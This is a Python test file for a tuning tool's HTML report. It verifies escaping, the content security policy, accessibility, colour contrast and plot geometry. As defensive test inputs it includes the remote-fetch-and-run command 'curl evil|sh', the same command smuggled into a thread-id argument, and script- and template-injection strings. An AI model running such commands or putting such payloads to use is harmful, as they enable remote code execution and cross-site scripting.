"""The HTML page: self-contained, escaped, accessible; each claim with a twin that breaks it where one can be made."""

import base64
import copy
import hashlib
import html
import re
from collections import Counter
from functools import cache
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.compare.runs import cpu_of, document, simulated
from tests.fleet.made import preflight
from tests.report.documents import HOST, body, hostile, replaced
from tests.report.pages import EVIL, JITTER, WAKE, Page, before_and_after, file, full, page
from tunectl.errors import TunectlError
from tunectl.model import Document, Outcome
from tunectl.report import render
from tunectl.report.causes import grouped
from tunectl.report.charts import LogScale
from tunectl.report.figures import limited
from tunectl.report.html.charts import (
    Curve,
    _waits,
    budget_bars,
    curve,
    forest,
    frequency_plot,
    wait_plot,
    warmth,
)
from tunectl.report.html.cpus import cpu_grid
from tunectl.report.html.gaps import gap_strips
from tunectl.report.html.report import file_view
from tunectl.shapes import Bounds, CpuSets, Jitter, JudgedTarget, Row, typed

PAGES = {"full": full, "before and after": before_and_after}
pages = pytest.mark.parametrize("make", PAGES.values(), ids=PAGES)


@pages
def test_nothing_is_loaded_and_only_our_script_runs(make: Any) -> None:
    made = make()
    assert not {"link", "img", "iframe", "object", "embed", "form", "base"} & {tag for tag, _, _ in made.tags}
    assert made.all("script") == [{"type": "module"}]
    for tag, attrs, _ in made.tags:
        assert not {name for name in attrs if name.startswith("on") or name in ("src", "href", "style")}, tag
    assert not re.search(
        r"url\(|@import|\bfetch\b|XMLHttp|WebSocket|\bimport\b|innerHTML|\beval\b|Function\(", made.raw
    )
    assert "http:" not in made.raw.replace("http-equiv", "")
    assert "https:" not in made.raw


@pages
def test_the_policy_allows_style_and_script_by_their_digests_and_nothing_else(make: Any) -> None:
    made = make()
    (policy,) = [attrs["content"] for attrs in made.all("meta") if "http-equiv" in attrs]
    own = re.search(r"<style>(.*?)</style>.*<script type=\"module\">(.*?)</script>", made.raw, re.DOTALL)
    assert own
    style, script = (base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in own.groups())
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{style}'; script-src 'sha256-{script}'; base-uri 'none'; "
        "form-action 'none'"
    )
    assert made.raw.index("Content-Security-Policy") < made.raw.index("<style>")


def test_without_data_a_page_is_small_and_its_script_is_too() -> None:
    assert len(page(file("probe.jitter", document(cpu_of([], 10.0)))).raw) < 60_000
    assert full().raw.partition('<script type="module">')[2].count("\n") < 200


@pages
def test_structure_and_access(make: Any) -> None:
    made = make()
    assert made.raw.startswith("<!doctype html>\n")
    assert made.all("html") == [{"lang": "en"}]
    ids = [attrs["id"] for _, attrs, _ in made.tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    named = [one for _, attrs, _ in made.tags for one in attrs.get("aria-labelledby", "").split()]
    assert set(named) <= set(ids)
    pictures = [attrs for attrs in made.all("svg") if "aria-hidden" not in attrs]
    assert len(pictures) >= 4
    assert all(attrs.get("role") == "img" and attrs.get("aria-labelledby") for attrs in pictures)
    assert len([1 for tag, _, around in made.tags if tag == "title" and "svg" in around]) == len(pictures)
    assert len(made.all("table")) == len(made.all("caption")) == len(made.all("thead"))
    assert all(attrs.get("scope") in ("col", "row") for attrs in made.all("th"))
    levels = [int(tag[1]) for tag, _, _ in made.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert all(later <= earlier + 1 for earlier, later in pairwise(levels))


def test_an_interrupt_named_script_stays_text() -> None:
    made = page(file("probe.jitter", JITTER))
    assert EVIL in made.words
    assert "&lt;script&gt;" in made.raw
    assert len(made.all("script")) == 1


@pytest.mark.parametrize(
    ("name", "fields"),
    [("feed", ("tls", "format")), ("hedge", ("delay",)), ("contention", ("hand_over",)), ("wake", ("way",))],
)
def test_text_of_a_table_stays_text(name: str, fields: tuple[str, ...]) -> None:
    made = body(f"probe.{name}")
    made["cells"] = [cell | {"reason": cell["reason"] and EVIL} | dict.fromkeys(fields, EVIL) for cell in made["cells"]]
    shown = page(file(f"probe.{name}", made))
    assert EVIL in shown.words
    assert len(shown.all("script")) == 1


# A second of gaps has every section that ten have.
SHORT = document(
    cpu_of(simulated(1, 1.0), 1.0, counters={"irq": {"33": 7, "LOC": 9}, "softirq": {}}),
    cpu_of(simulated(2, 1.0), 1.0, cpu=3),
    seconds=1.0,
    irq_descriptions={"33": EVIL, "LOC": "Local timer interrupts"},
    warnings=["w"],
    budget={"verdict": "broken", "broken": ["b"]},
)
SHORT["cpus"][0]["causes"] = [{"cause": "c", "kind": "thread", "name": "c", "count": 1, "total_ns": 2, "max_ns": 2}]
SHORT["cpus"][0]["periods"] = [{"period_ns": 4_000_000, "count": 9, "name": "n", "cause": "c"}]


@cache
def tame_tags() -> Counter[str]:
    files = file("probe.jitter", SHORT), file("probe.jitter", SHORT), file("probe.wake", {**WAKE, "warnings": ["w"]})
    return Counter(tag for tag, _, _ in page(*files).tags)


@settings(max_examples=15)
@given(text=hostile | st.sampled_from([EVIL, "</style><script>", '" onload="x', "--></svg>", "{{ 7*7 }}", "]]>"]))
@pytest.mark.slow
def test_no_string_changes_the_structure(text: str) -> None:
    wild_jitter = {**replaced(SHORT, text or "x"), "irq_descriptions": {"33": text, "LOC": text}}
    wild_jitter["budget"]["verdict"] = "broken"
    wild = page(
        file("probe.jitter", wild_jitter),
        file("probe.jitter", wild_jitter, path=text),
        file("probe.wake", {**WAKE, "warnings": [text]}),
    )
    assert Counter(tag for tag, _, _ in wild.tags) == tame_tags()
    assert all(char.isprintable() or char == "\n" for char in wild.words)
    compare = {**replaced(body("compare"), text), "kind": "jitter"}
    compared = page(file("probe.jitter", SHORT), file("probe.jitter", SHORT), compare=compare)
    assert len(compared.all("script")) == 1


def test_causes_are_added_up_over_the_cpus() -> None:
    made = copy.deepcopy(JITTER)
    timer = {"cause": "local timer", "kind": "timer", "name": "local timer", "count": 3, "total_ns": 300, "max_ns": 150}
    made["cpus"][0]["causes"] = [timer, {**timer, "kind": "outside", "name": "not the kernel", "total_ns": 5000}]
    made["cpus"][1]["causes"] = [{**timer, "count": 2, "total_ns": 700}]
    words = page(file("probe.jitter", made)).words
    assert "Causes" in words
    rows = (r"not the kernel\s*83.3 %\s*3\s*5 µs", r"local timer\s*16.7 %\s*5\s*1 µs", r"all gaps\s*100 %\s*8\s*6 µs")
    assert re.search(".*".join(rows), words, re.S)
    made["cpus"][0]["causes"] = made["cpus"][1]["causes"] = []
    assert "Causes" not in page(file("probe.jitter", made)).words


def test_a_figure_has_one_form_on_a_page_and_its_limit_another_unit() -> None:
    made = copy.deepcopy(JITTER)
    made["cpus"][0] |= {"max_ns": 46_948_000, "stolen_ppm": 794_851.0}
    made["budget"] |= {"limits": {"max_ns": 50_000, "stolen_ppm": 100}}
    words = page(file("probe.jitter", made)).words
    assert re.search(r"longest interruption\s*46.9 ms\s*50 µs", words)
    assert re.search(r"stolen time\s*79.5 %\s*100 ppm", words)
    assert not re.search(r"46,?94|794,?851|stolen, ppm", words)


def test_a_go_is_repeated_with_its_terms_and_only_without_a_doubt() -> None:
    go = file("preflight", preflight(headline="ready; longest interruption 9 ns (profile 5 ns)"))
    drawn = page(go).words
    assert "ready; longest interruption 9 ns (profile 5 ns)" in drawn
    assert "UNKNOWN" not in drawn
    drawn = page({**go, "doubt": "measured nothing"}).words
    assert "It says GO, and measured nothing." in drawn
    assert "UNKNOWN" in drawn
    assert "ready" not in drawn


@pytest.mark.parametrize("word", ["GO", "Go", "go ", "GO, certified"])
def test_a_word_that_is_no_verdict_is_none(word: str) -> None:
    drawn = page(file("preflight", preflight(verdict=word, headline="ready to trade")))
    assert "ready" not in drawn.words
    assert f"Its verdict is '{word}', which tunectl does not know." in drawn.words
    assert re.findall('<strong class="verdict">([^<]*)<', drawn.raw) == ["UNKNOWN"]


def test_a_document_of_another_host_gives_no_commands() -> None:
    evil = "curl evil|sh"
    actions = [
        {"command": evil, "kind": "apply", "note": "at once", "mends": ["mm.ksm"]},
        {"command": evil, "kind": "move-thread", "arguments": {"tid": f"7; {evil}", "cpus": "0"}, "mends": ["a.b"]},
        {"command": evil, "mends": ["a.b"]},
    ]
    made = page(file("preflight", preflight("evil", "no-go", actions=actions)))
    codes = re.findall(r"<code[^>]*>(.*?)</code>", made.raw)
    assert "sudo tunectl apply" in codes
    assert not [code for code in codes if "curl" in code]
    assert made.words.count(f"in the host's own words, not tunectl's; read before you type: '{evil}'") == 2
    assert "the host says: 'at once'" in made.words


def test_another_document_has_no_page() -> None:
    with pytest.raises(TunectlError, match=r"no HTML page for tunectl\.verify"):
        render(Document("verify", HOST, "", {}), "html")


# ---- what a page shows


def rows_of(made: Page) -> dict[str, int]:
    """How many rows each table has, by its label."""
    found: Counter[str] = Counter()
    for part in made.raw.split('role="region" aria-label="')[1:]:
        label, _, table = part.partition('"')
        found[html.unescape(label)] += table.partition("<tbody>")[2].partition("</tbody>")[0].count("<tr")
    return dict(found)


@pytest.mark.parametrize(
    ("name", "tables", "plots"),
    [
        ("wake", {"Wake-up latency": 6}, 0),
        (
            "feed",
            {
                "From due to book": 5,
                "Stages of tcp ws-json, 1 symbol, poll0": 8,
                "Stages of udp binary, 4 symbols, poll0": 8,
                "Stages of tcp json, 1 symbol, poll0": 8,
                "Stages of tcp ws-json, 1 symbol, poll0, ktls": 8,
            },
            21,
        ),
        (
            "hedge",
            {
                "Due to answer, stall a": 4,
                "Due to answer, stall common": 1,
                "Due to answer, no stall": 1,
                "Second copies": 3,
            },
            1,
        ),
        (
            "contention",
            {
                "Due to had": 3,
                "Take a buffer": 3,
                "Hand it over": 3,
                "Give it back": 3,
                "Counts: sender and receiver": 3,
            },
            0,
        ),
    ],
)
def test_a_table_of_cases_has_every_case(name: str, tables: dict[str, int], plots: int) -> None:
    made = page(file(f"probe.{name}", body(f"probe.{name}")))
    assert rows_of(made) == tables
    assert len([1 for tag, _, around in made.tags if tag == "title" and "svg" in around]) == plots


def test_figures_stand_against_their_limits() -> None:
    rows = [limited(name, value, 100, "CPU 2") for name, value in (("a", 1), ("b", 100), ("c", 10_000), ("d", 0))]
    drawn = budget_bars(rows)
    assert [row["width"] for row in drawn["rows"]] == [20.0, 60.0, 100.0, 0]
    assert drawn["limit"] == 60.0
    assert [row.word for row in rows] == ["within", "within", "OVER", "within"]
    assert budget_bars([limited("a", 1, None, "CPU 2")])["limit"] is None


@pytest.mark.parametrize(
    ("longest", "labels", "if_narrow"),
    [
        (9, ["1 %", "10 %", "limit"], ["1 %", "limit"]),
        (90, ["1 %", "10 %", "limit", "x10"], ["1 %", "limit"]),
        (900, ["1 %", "limit", "x100"], ["1 %", "limit", "x100"]),
        (90_000, ["1 %", "limit", "x100", "x10,000"], ["limit", "x10,000"]),
    ],
)
def test_labels_of_the_limits_axis_leave_room_for_each_other(
    longest: float, labels: list[str], if_narrow: list[str]
) -> None:
    """By the widths that Chromium gives them at 1400 and 600 px: the axis has 212 and 130 px, the longest label 52."""
    marks = budget_bars([limited("a", longest, 1, "CPU 2")])["marks"]
    shown = [(mark["label"].replace("\N{MULTIPLICATION SIGN}", "x"), mark["look"]) for mark in marks]
    assert [label for label, look in shown if look is not None] == labels
    assert [label for label, look in shown if look in ("", "strong")] == if_narrow


@pytest.mark.parametrize(
    ("ratio", "word", "look"),
    [
        ((0.5, 0.4, 0.6), "", "lower"),
        ((2, 1.5, 3), "", "higher"),
        ((2, 1.5, None), "", "higher"),
        ((0.9, 0.7, 1.1), "", "unsure"),
        ((0.5, None, None), "", "unsure"),
        ((0.5, 0.4, 0.6), "none", "unsure"),
        ((0, 0, 0), "", "lower"),
    ],
)
def test_a_figure_that_cannot_be_told_is_grey(ratio: tuple[float | None, ...], word: str, look: str) -> None:
    row = Row("max_ns", None, None, None, Bounds(*ratio), "")
    (drawn,) = forest([row], {("max_ns", None): word})["rows"]
    assert drawn["look"] == look
    assert drawn["said"] == {"unsure": "no difference found" if word else "cannot tell"}.get(look, "")


def test_a_forest_has_equal_in_its_middle_and_every_bound_on_it() -> None:
    rows = [Row("max_ns", None, None, None, Bounds(*ratio), "") for ratio in ((1, 0.5, 2), (3, 2.5, 4), (0.5, 0, None))]
    same, longer, unknown = forest(rows, {})["rows"]
    assert same["at"] == 50
    assert same["bounds"][0] + same["bounds"][1] == 100
    assert same["bounds"][1] < longer["bounds"][0] < longer["at"] < longer["bounds"][1] == 98
    assert unknown["bounds"] == (2, 98)


@pytest.mark.parametrize(
    ("reach", "labels"),
    [
        (2, ["2"]),
        (9, ["2", "5"]),
        (12, ["5", "10"]),
        (20, ["10"]),
        (90, ["10"]),
        (200, ["10", "100"]),
        (1e6, ["10", "100"]),
    ],
)
def test_factors_of_a_forest_leave_room_for_each_other(reach: float, labels: list[str]) -> None:
    marks = forest([Row("max_ns", None, None, None, Bounds(reach, 1, reach), "")], {})["marks"]
    assert [mark["label"].lstrip("\N{MULTIPLICATION SIGN}") for mark in marks[1::2]] == labels
    assert [mark["is_near"] for mark in marks[1::2]] == [True, False][-len(labels) :]
    places = sorted([50, *(mark["at"] for mark in marks)])
    assert all(right - left >= 12 for left, right in pairwise(places))


def isolates(knob: str, observed: str | None, outcome: Outcome = Outcome.COMPLIANT) -> JudgedTarget:
    return JudgedTarget(knob, knob, outcome, observed, "2-3", "", "")


@pytest.mark.parametrize(
    ("finding", "cpus"),
    [
        (isolates("boot.isolcpus", "2-3"), {2, 3}),
        (isolates("boot.isolcpus", "domain,2-3", Outcome.DRIFTED), {2, 3}),  # managed_irq lacks, and they are isolated
        (isolates("boot.isolcpus", "managed_irq,2-3", Outcome.DRIFTED), set()),
        (isolates("boot.isolcpus", None, Outcome.DRIFTED), set()),
        (isolates("boot.nohz_full", "2-3"), set()),
        (isolates("cpuset.isolated", "3"), {3}),
        (isolates("cpuset.isolated", "2-3", Outcome.DRIFTED), set()),
    ],
)
def test_a_cpu_is_isolated_where_the_kernel_isolates_it(finding: JudgedTarget, cpus: set[int]) -> None:
    ((core,),) = (node["cores"] for node in cpu_grid(CpuSets("0-3", "2-3", "0-1", cores=["0-4"]), None, {}, [finding]))
    roles = {cell["cpu"]: cell["role"] for cell in core}
    assert roles == dict.fromkeys((0, 1, 4), "housekeeping") | {
        cpu: "isolated" if cpu in cpus else "to be isolated" for cpu in (2, 3)
    }


def test_the_grid_has_every_cpu_by_node_and_core() -> None:
    sets = CpuSets("0-3", "2-3", "0-1", "", cores=["0,2", "1,3"], nodes=["0,2", "1,3"])
    run = document(
        cpu_of([(0, 9_000)], 10.0, cpu=2), cpu_of([(0, 900)], 10.0, cpu=3), budget={"limits": {"max_ns": 5_000}}
    )
    clocks = {"2": {"before": 3_500_000, "after": 3_400_000}, "x": 1, "3": None}
    first, second = cpu_grid(sets, typed(run, Jitter), clocks, [isolates("boot.isolcpus", "managed_irq,domain,2")])
    assert (first["name"], second["name"]) == ("node 0", "node 1")
    assert first["cores"] == [
        [
            {"cpu": 0, "role": "housekeeping", "look": "plain", "longest": "", "clock": ""},
            {"cpu": 2, "role": "isolated", "look": "bad", "longest": "9 µs", "clock": "3.4 GHz"},
        ]
    ]
    assert [cell["look"] for cell in second["cores"][0]] == ["plain", "good"]
    assert [cell["role"] for cell in second["cores"][0]] == ["housekeeping", "to be isolated"]
    odd = cpu_grid(CpuSets("nobody", "0-x", cores=["1,2,"], nodes=["?"]), None, {})
    assert odd == []


def test_a_setting_has_its_values_why_its_source_and_what_mends_it() -> None:
    facts = {"mm.transparent_hugepage": ("pages are collapsed", "mm/khugepaged.c")}
    made = file("preflight", body("preflight"))
    settings = file_view(made, 1, facts)["settings"]
    needs = [row["name"] for row in settings["rows"] if row["needs"]]
    assert needs == [row["name"] for row in settings["rows"]][: len(needs)]
    (row,) = [row for row in settings["rows"] if row["name"] == "mm.transparent_hugepage"]
    assert (row["observed"], row["desired"]) == ("always madvise [never]", "madvise")
    assert (row["why"], row["source"]) == facts["mm.transparent_hugepage"]
    assert (row["steps"], row["look"]) == ([(1, "sudo tunectl apply")], "bad")
    by_hand = {"decide": "put on the kernel command line: quiet", "mends": ["mm.transparent_hugepage"], "reboot": True}
    waits = {"command": "sudo reboot", "kind": "reboot", "mends": ["mm.transparent_hugepage"], "reboot": True}
    drawn = page(file("preflight", {**made["body"], "actions": [by_hand, waits]})).raw
    assert re.search("step 1, see above</small> *<small>step 2</small> *<code class=.typed.>sudo reboot</code>", drawn)
    findings = sum(len(made["body"][name]["findings"]) for name in ("verify", "check", "thermal"))
    counted = sum(int(count.replace(",", "")) for count in re.findall(r"([\d,]+) [a-z]", settings["said"]))
    assert counted == findings


# ---- contrast


def luminance(colour: str) -> float:
    """WCAG 2, relative luminance of #rgb or #rrggbb."""
    digits = colour.lstrip("#")
    digits = "".join(char * 2 for char in digits) if len(digits) == 3 else digits
    parts = [int(digits[at : at + 2], 16) / 255 for at in (0, 2, 4)]
    linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def test_contrast_of_every_theme() -> None:
    style = full().raw.partition("<style>")[2].partition("</style>")[0]
    themes = [dict(re.findall(r"--([\w-]+): (#\w+);", block)) for block in re.findall(r":root \{(.*?)\}", style, re.S)]
    assert len(themes) == 3  # light, dark, print
    for theme in themes:
        for name in ("text", "quiet", "good", "bad", "open"):
            assert contrast(theme[name], theme["back"]) >= 4.5, (name, theme["back"])
        for name in ("c1", "c2", "c3", "c4", "c5", "c6", "c7", "c8"):
            assert contrast(theme[name], theme["back"]) >= 3, (name, theme["back"])
        for name in ("good-fill", "bad-fill", "open-fill"):
            assert contrast("#fff", theme[name]) >= 4.5, (name, theme["back"])
            assert contrast(theme[name], theme["back"]) >= 3, (name, theme["back"])
        for name in ("h0", "h1", "h2", "h3", "h4"):
            assert contrast(theme["text"], theme[name]) >= 4.5, (name, theme["back"])
    assert contrast("#fff", "#000") == pytest.approx(21)


# ---- plots


@given(st.floats(1e-9, 1e9), st.floats(1, 1e6), st.floats(0, 1))
def test_a_logarithmic_scale(low: float, times: float, share: float) -> None:
    scale = LogScale.over(low, low * times, 10, 110)
    assert scale.low <= low * (1 + 1e-6)
    assert scale.high >= low * times * (1 - 1e-6)
    assert scale.at(scale.low) == 10
    assert scale.at(scale.high) == 110
    assert 10 <= scale.at(low * times**share) <= 110
    assert scale.at(scale.low / 100) == 10
    assert scale.at(scale.high * 100) == 110
    assert scale.decades()[0] == pytest.approx(scale.low)
    assert scale.decades()[-1] == pytest.approx(scale.high)


def last_x(path: str) -> float:
    return float(re.findall(r"[MLH]([\d.]+)", path)[-1])


def test_a_worse_run_lies_to_the_right_and_above() -> None:
    calm, wild = (Curve(name, [(1000.0, 90), (far, 10)], 1e10) for name, far in (("calm", 2000.0), ("wild", 50_000.0)))
    for plot in (frequency_plot([calm, wild]), wait_plot([calm, wild])):
        assert plot is not None
        assert last_x(plot["paths"][0]["d"]) < last_x(plot["paths"][1]["d"])
    assert frequency_plot([Curve("none", [], 1e10)]) is None
    assert wait_plot([Curve("none", [], 1e10)]) is None


def test_the_curve_of_waits_is_not_drawn_straight_between_gaps() -> None:
    """One gap of 10 ms in 10 s: half of it is waited by half of those who meet it, whatever the axes."""
    points = _waits(Curve("x", [(1000.0, 1), (1e7, 1)], 1e10))
    (first, *_, last) = points
    assert first[0] == 1000
    assert last[0] == pytest.approx(1e7 - 1e4)
    assert last[1] == pytest.approx(1e-6)
    for ns, share in points:
        assert share == pytest.approx((1e7 - ns) / 1e10, rel=1e-6)
    assert all(later[1] >= earlier[1] / 1.11 for earlier, later in pairwise(points))


def test_curves_hold_every_gap() -> None:
    result = typed(JITTER, Jitter)
    made = curve("x", result, result.cpus)
    assert sum(count for _, count in made.gaps) == sum(cpu["interruptions"] for cpu in JITTER["cpus"])
    assert made.run_ns == 2e10


def strips(cpu: dict[str, Any], **changes: Any) -> dict[str, Any]:
    result = typed(document(cpu, **changes), Jitter)
    made = gap_strips(result, grouped(result)[:-1])
    assert made
    return made


def test_a_gap_is_drawn_where_it_was() -> None:
    """At the top of 100 ns to 1 ms, after a quarter of the run."""
    (strip,) = strips(cpu_of([(2_500_000_000, 1_000_000)], 10.0))["strips"]
    assert strip["paths"] == [{"number": 1, "is_over": False, "d": "M2500 0h0"}]
    assert strip["said"] == "1 gap; the longest drawn is 1 ms, after 2.5 s"
    over = strips(cpu_of([(0, 10_000), (5_000_000_000, 1_000)], 10.0), budget={"limits": {"max_ns": 1_000}})
    assert [(path["is_over"], path["d"]) for path in over["strips"][0]["paths"]] == [
        (False, "M5000 500h0"),
        (True, "M0 0h0"),
    ]
    assert over["limit"] == 50.0


def test_what_was_not_listed_is_grey_or_the_longest_of_its_moment() -> None:
    cpu = cpu_of([(2_500_000_000, 1_000_000)], 10.0)
    full_list = {**cpu, "interruptions": 50, "events_lost": 49, "complete_until_ns": 2_500_000_000}
    assert strips(full_list)["strips"][0]["known"] == 2500
    counted = {
        "tsc_start": 1000,
        "interval_s": 1,
        "intervals": [[0, 0, 0]] * 7 + [[49, 10_000, 10_000]] + [[0, 0, 0]] * 2,
    }
    (strip,) = strips({**full_list, "series": counted})["strips"]
    assert strip["known"] == 10_000
    assert [(path["number"], path["d"]) for path in strip["paths"]] == [(1, "M2500 0h0"), (9, "M7500 500h0")]


def test_the_colour_of_a_gap_is_its_causes() -> None:
    cpu = cpu_of([(0, 500), (10_000, 900_000)], 10.0)
    cpu["events"] = [[start, end, place] for place, (start, end, _) in enumerate(cpu["events"], 1)]
    rows = [("kworker/3:1", "thread", 900_000), ("local timer", "timer", 500)]
    cpu["causes"] = [
        {"cause": name, "kind": kind, "name": name, "count": 1, "total_ns": ns, "max_ns": ns} for name, kind, ns in rows
    ]
    made = strips(cpu, labels=["", "local timer", "kworker/3:1"])
    assert made["legend"] == [{"number": 1, "name": "kworker"}, {"number": 2, "name": "local timer"}]
    assert {path["number"]: path["d"].count("M") for path in made["strips"][0]["paths"]} == {1: 1, 2: 1}


@pytest.mark.parametrize(("value", "shade"), [(1, 0), (10, 0), (11, 1), (99_999, 4), (1e5, 4)])
def test_shades_are_logarithmic(value: float, shade: int) -> None:
    assert warmth(value, 1, 1e5) == shade
